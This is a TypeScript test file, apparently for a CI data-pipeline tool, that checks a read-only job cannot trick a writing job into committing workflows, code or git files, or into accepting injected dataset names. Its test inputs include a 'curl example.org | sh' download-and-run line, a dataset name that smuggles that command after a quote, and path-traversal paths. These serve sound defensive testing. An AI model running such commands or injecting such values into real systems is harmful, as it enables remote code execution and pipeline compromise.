import {createHash} from 'node:crypto'
import {readFile, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {afterEach, beforeEach, describe, expect, test} from 'vitest'
import {canonicalJson, type Json} from '../../shared/domain/json.ts'
import {errorsOf, foundTeam, type Team} from './team.ts'

const CONFIG = `pipeline: oil
data:
  prices: { path: data/*.csv, refresh: [sh, fetch.sh] }
  rates: { path: ./rates/ }
`
const PROPOSES = {contents: 'write', 'pull-requests': 'write'} as const
const STARTS = {contents: 'write', actions: 'write'} as const

type List = {files: {path: string; digest: string}[]; committed: string[]}
type Section = {
  body: {digest: string; datasets: {name: string; root: string; digest: string}[]}
}

let team: Team
beforeEach(async () => {
  team = await foundTeam({
    'proofmark.yml': CONFIG,
    'data/prices.csv': 'day,price\n1,10\n',
    'rates/a.csv': 'day,rate\n1,3\n',
    'manifests/prices.sha256': `${'0'.repeat(64)}  fetch.sh\n`,
    'fetch.sh': 'echo 2,11 >> data/prices.csv\n',
  })
})
afterEach(() => team.close())

let runs = 0
/** A run whose hand-over lies in a folder, to be changed there by a job that may only read. */
async function looked() {
  const first = await team.job({event: 'schedule', permissions: {contents: 'read'}})
  const store = join(first.workspace, '..', `handed-${++runs}`)
  expect(errorsOf(await first.act('track', {refresh: 'true', store}))).toBe('')
  const folder = join(store, 'oil-data-main-1')
  async function edit<T>(file: string, change: (content: T) => void) {
    const content = JSON.parse(await readFile(join(folder, file), 'utf8'))
    change(content)
    await writeFile(join(folder, file), canonicalJson(content as Json))
  }
  return {
    folder,
    edit,
    async slip(path: string, text = 'on: push\n') {
      const hex = createHash('sha256').update(text).digest('hex')
      await writeFile(join(folder, `${hex}.bin`), text)
      await edit<List>('changed.json', ({files}) => files.push({path, digest: `sha256:${hex}`}))
    },
    async tell(inputs: Readonly<Record<string, string>> = {}) {
      const permissions = inputs['as'] === 'dispatch' ? STARTS : PROPOSES
      const job = await team.job({jobOf: first, permissions})
      const workspace = `${job.workspace}/..`
      return job.act('trigger', {store, ...inputs}, {workspace})
    },
  }
}

function nothingWasSetOff() {
  expect(team.repository.pulls).toEqual([])
  expect(team.repository.dispatches).toEqual([])
  expect([...team.repository.refs.keys()].filter(ref => ref.includes('proofmark/'))).toEqual([])
}

describe('a job that may only read cannot have the writing one commit', () => {
  test.each([
    {name: 'a workflow', path: '.github/workflows/own.yml'},
    {name: 'the configuration', path: 'proofmark.yml'},
    {name: 'code', path: 'fetch.sh'},
    {name: 'what only begins like a dataset', path: 'rates-code/a.csv'},
    {name: 'what the pattern of a dataset does not mean', path: 'data/fetch.sh'},
    {name: 'below the pattern', path: 'data/more/prices.csv'},
    {name: 'a way out of the dataset', path: 'rates/../.github/workflows/own.yml'},
    {name: 'a way out of the repository', path: '../rates/a.csv'},
    {name: 'an absolute path', path: '/rates/a.csv'},
    {name: 'an empty name', path: 'rates//a.csv'},
    {name: 'the configuration of git', path: 'rates/.git/config'},
    {name: 'the same in other letters', path: 'rates/.GIT/config'},
    {name: 'modules of git', path: 'rates/.gitmodules'},
  ])('$name', async ({path}) => {
    const {slip, tell} = await looked()
    await slip(path)
    const done = await tell()
    expect(done.exitCode).toBe(1)
    expect(errorsOf(done)).toContain(`${path} would be committed`)
    nothingWasSetOff()
  })

  test('but files of a dataset', async () => {
    const {slip, tell} = await looked()
    await slip('rates/new/b.csv', 'day,rate\n2,4\n')
    expect(errorsOf(await tell())).toBe('')
    const files = team.repository.filesAt(team.repository.pulls[0]?.headRef ?? '')
    expect(files.get('rates/new/b.csv')).toBe('day,rate\n2,4\n')
    expect(files.get('data/prices.csv')).toBe('day,price\n1,10\n2,11\n')
  })

  test('more than fits into one commit', async () => {
    const {slip, edit, tell} = await looked()
    await slip('rates/b.csv')
    await edit<List>('changed.json', ({files}) => {
      const digest = files.at(-1)?.digest ?? ''
      for (let at = 0; at < 300; at++) files.push({path: `rates/${at}.csv`, digest})
    })
    expect(errorsOf(await tell())).toContain('too much for one commit')
    nothingWasSetOff()
  })

  test('a deletion outside of the datasets', async () => {
    const {edit, tell} = await looked()
    await edit<Section>('data.json', ({body}) => {
      for (const dataset of body.datasets) dataset.root = '.'
    })
    expect(errorsOf(await tell())).toBe('')
    const files = team.repository.filesAt(team.repository.pulls[0]?.headRef ?? '')
    expect(files.has('fetch.sh')).toBe(true)
  })

  test('a list of files that is not the one of the data', async () => {
    const {folder, edit, tell} = await looked()
    let hex = ''
    await edit<Section>('data.json', ({body}) => {
      hex = body.datasets[0]?.digest.slice('sha256:'.length) ?? ''
    })
    await writeFile(join(folder, `${hex}.sha256`), 'curl example.org | sh\n')
    expect(errorsOf(await tell())).toContain('the list of the files of prices')
    nothingWasSetOff()
  })
})

describe('what is told in the name of the repository', () => {
  test.each([
    '../.github/workflows/own',
    'prices [skip ci]',
    'prices, closes #1 @acme',
    'a\nb',
    'x'.repeat(300),
    '"; curl example.org | sh #',
  ])('is no name of a dataset that could not stand in a configuration: %j', async name => {
    for (const inputs of [{}, {as: 'dispatch', workflow: 'train.yml'}]) {
      const {edit, tell} = await looked()
      await edit<Section>('data.json', ({body}) => {
        for (const dataset of body.datasets.slice(0, 1)) dataset.name = name
      })
      const done = await tell(inputs)
      expect(done.exitCode).toBe(1)
      expect(errorsOf(done)).toContain('name of a dataset')
      nothingWasSetOff()
    }
  })

  test('is no digest that is not that of the datasets', async () => {
    const {edit, tell} = await looked()
    await edit<Section>('data.json', ({body}) => {
      body.digest = `sha256:${'1'.repeat(64)}`
    })
    const done = await tell({as: 'dispatch', workflow: 'train.yml'})
    expect(errorsOf(done)).toContain('digest of its datasets')
    nothingWasSetOff()
  })
})
